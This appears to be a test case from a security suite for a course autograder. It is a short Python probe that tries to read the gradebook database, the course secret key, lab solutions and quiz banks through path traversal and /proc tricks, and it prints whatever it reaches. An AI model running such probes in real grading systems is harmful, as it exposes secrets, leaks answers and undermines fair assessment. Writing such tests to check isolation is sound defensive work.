# ruff: noqa
# Threat: Reaching out. The gradebook, the course's secret key, solutions, question banks.
# Outcome: completed
# Marks: 8

# %% before double
import os
for name in ("assessor.db", "gradebook.db", ".secret", "course.toml", "graders/lab/solutions.py", "quizzes/bank.toml", "autograded"):
    for path in ("@COURSE@/" + name, "../../" + name, "/proc/1/root@COURSE@/" + name, "/proc/self/cwd/../../.." + "@COURSE@/" + name):
        if os.path.lexists(path):
            print("reached:", path)
            print(open(path).read())
